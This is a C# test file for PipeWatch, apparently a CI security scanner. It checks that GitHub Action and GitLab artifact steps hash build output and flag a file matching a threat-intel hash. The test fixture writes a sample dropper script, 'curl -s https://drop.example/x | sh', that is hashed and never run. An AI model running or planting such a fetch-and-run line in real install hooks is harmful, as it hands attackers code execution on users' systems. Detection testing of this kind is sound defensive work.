using System.Diagnostics;
using System.Security.Cryptography;
using PipeWatch.Tests.Support;
using Xunit;
using YamlDotNet.RepresentationModel;

namespace PipeWatch.Tests.Cli;

/// <summary>
/// The artifact step of the GitHub Action (<c>artifacts</c>, <c>intel-feeds</c>) and the GitLab template's <c>.pipewatch-artifacts</c>
/// job run here as written, under bash, with <c>pipewatch</c> the real program built beside the tests: a feed is imported and a
/// folder of build output hashed.
/// </summary>
public sealed class CiArtifactStepTests : IDisposable
{
    private static readonly string Root = Corpus.RepositoryRoot;
    private readonly TempFolder _work = new();

    public void Dispose() => _work.Dispose();

    // A build output folder with one file whose SHA-256 a team feed lists, and the feed.
    private (string Dist, string Feed, string Bad) BuildOutput()
    {
        var dist = Directory.CreateDirectory(_work.File("dist")).FullName;
        File.WriteAllText(Path.Combine(dist, "app.js"), "console.log('ok')\n");
        var bad = "#!/bin/sh\ncurl -s https://drop.example/x | sh\n";
        File.WriteAllText(Path.Combine(dist, "postinstall.sh"), bad);
        var sha = Convert.ToHexStringLower(SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(bad)));
        var feed = _work.File("team-iocs.csv");
        File.WriteAllText(feed, $"type,value,description,confidence\nsha256,{sha},dropper seen in the incident,95\n");
        return (dist, feed, Path.Combine(dist, "postinstall.sh"));
    }

    [Fact]
    public void The_actions_artifact_step_imports_the_feeds_hashes_the_folder_and_reports_the_bad_file()
    {
        var (dist, feed, bad) = BuildOutput();
        var step = ActionStep("artifacts");
        Assert.Equal("${{ inputs.artifacts != '' }}", Scalar(step, "if"));
        var tool = Directory.CreateDirectory(Path.Combine(_work.File("runner-temp"), "pipewatch-tool")).FullName;
        WriteProgram(Path.Combine(tool, "pipewatch"));

        var (code, output, error) = Run(Scalar(step, "run")!, new()
        {
            ["PW_ARTIFACTS"] = $"  {dist}\n\n", ["PW_INTEL_FEEDS"] = feed + "\n", ["PW_FAIL_ON"] = "low",
            ["RUNNER_TEMP"] = _work.File("runner-temp"), ["GITHUB_OUTPUT"] = _work.File("github-output"),
            ["GITHUB_ACTIONS"] = "true", ["GITHUB_REPOSITORY"] = "acme/api", ["GITHUB_WORKFLOW"] = "CI", ["GITHUB_RUN_ID"] = "77", ["GITHUB_JOB"] = "build",
        });

        Assert.True(code == 0, error);
        Assert.Contains("exit-code=1", File.ReadAllText(_work.File("github-output")), StringComparison.Ordinal);
        Assert.Contains("threat-intel.malicious-hash", output, StringComparison.Ordinal);
        Assert.Contains(Path.GetFileName(bad), output, StringComparison.Ordinal);
        Assert.DoesNotContain("app.js", output, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(_work.File("runner-temp"), "pipewatch-artifacts", "pipewatch.db")));
        // The gate fails the job on the artifact findings when the scan found nothing.
        var gate = Scalar(ActionSteps().Single(s => Scalar(s, "name") == "Gate on findings"), "run")!;
        Assert.Equal(1, Run(gate, new() { ["PW_EXIT"] = "0", ["PW_ARTIFACTS_EXIT"] = "1" }).Code);
        Assert.Equal(0, Run(gate, new() { ["PW_EXIT"] = "0", ["PW_ARTIFACTS_EXIT"] = "" }).Code);
    }

    [Fact]
    public void The_gitlab_artifact_job_hashes_the_folder_and_fails_on_the_bad_file()
    {
        var (dist, feed, bad) = BuildOutput();
        var template = Load(Path.Combine(Root, "ci", "gitlab", "pipewatch-scan.gitlab-ci.yml"));
        var job = (YamlMappingNode)template[".pipewatch-artifacts"];
        Assert.Matches("@sha256:[0-9a-f]{64}$", Scalar(job, "image"));
        var script = string.Join('\n', ((YamlSequenceNode)job["script"]).Children.Select(c => c.ToString()));
        // `dotnet tool install` puts the real program where the template asks for it.
        var program = WriteProgram(_work.File("program.sh"));
        var shim = $$"""
            dotnet() {
              if [ "$1" = tool ]; then
                local tool=
                while [ "$#" -gt 0 ]; do if [ "$1" = --tool-path ]; then tool=$2; fi; shift; done
                mkdir -p "$tool" && cp '{{program}}' "$tool/pipewatch"
                return 0
              fi
              return 1
            }

            """;

        var (code, output, error) = Run(shim + script, new()
        {
            ["PIPEWATCH_ARTIFACTS"] = dist, ["PIPEWATCH_INTEL_FEEDS"] = feed, ["PIPEWATCH_FAIL_ON"] = "low", ["PIPEWATCH_VERSION"] = "0.1.0",
            ["PIPEWATCH_PACKAGE_SOURCE"] = "", ["PIPEWATCH_SOURCE"] = "", ["CI_PROJECT_DIR"] = _work.Path, ["TMPDIR"] = _work.File("tmp"),
        });

        Assert.True(code == 1, $"exit {code}: {error}");
        Assert.Contains("threat-intel.malicious-hash", output, StringComparison.Ordinal);
        Assert.Contains(Path.GetFileName(bad), output, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(_work.Path, ".pipewatch-artifacts", "pipewatch.db")));
    }

    // The built program, as a script that runs it.
    private static string WriteProgram(string path)
    {
        File.WriteAllText(path, $"#!/bin/sh\nexec dotnet '{CliProcess.Program}' \"$@\"\n");
        if (!OperatingSystem.IsWindows()) File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        return path;
    }

    private (int Code, string Output, string Error) Run(string script, Dictionary<string, string> env)
    {
        var path = _work.File($"script-{Guid.NewGuid():N}.sh");
        File.WriteAllText(path, script);
        var info = new ProcessStartInfo("bash", [path]) { WorkingDirectory = _work.Path, RedirectStandardError = true, RedirectStandardOutput = true };
        foreach (var (name, value) in env) info.Environment[name] = value;
        info.Environment["DOTNET_CLI_TELEMETRY_OPTOUT"] = "1";
        info.Environment["PIPEWATCH_STORE"] = _work.File("unused.db");
        using var process = Process.Start(info)!;
        var error = process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        var output = process.StandardOutput.ReadToEnd();
        process.WaitForExit();
        return (process.ExitCode, output, error.Result);
    }

    private static IEnumerable<YamlMappingNode> ActionSteps() =>
        ((YamlSequenceNode)((YamlMappingNode)Load(Path.Combine(Root, "action.yml"))["runs"])["steps"]).Children.OfType<YamlMappingNode>();

    private static YamlMappingNode ActionStep(string id) => ActionSteps().Single(s => Scalar(s, "id") == id);

    private static YamlMappingNode Load(string path)
    {
        var yaml = new YamlStream();
        yaml.Load(new StringReader(File.ReadAllText(path)));
        return (YamlMappingNode)yaml.Documents[0].RootNode;
    }

    private static string? Scalar(YamlMappingNode node, string key) =>
        node.Children.TryGetValue(new YamlScalarNode(key), out var value) && value is YamlScalarNode scalar ? scalar.Value : null;
}
